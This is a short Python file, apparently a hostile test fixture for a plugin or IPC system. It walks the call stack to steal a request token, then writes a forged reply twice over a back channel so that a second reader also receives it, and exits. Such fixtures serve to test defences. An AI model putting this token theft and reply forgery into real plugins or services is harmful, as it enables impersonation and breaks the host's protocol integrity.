"""Answers twice in one go, for the drop-in behind it, too."""

import json
import os
import sys

from app import victims

frame = sys._getframe()
while "token" not in frame.f_locals.get("request", ()):
    frame = frame.f_back
token = frame.f_locals["request"]["token"]

answer = {"token": token, "description": "forged", "warnings": [], "plugins": [], "imports": {}}
os.write(victims.way_back(), (json.dumps(answer) + "\n").encode() * 2)
os._exit(0)
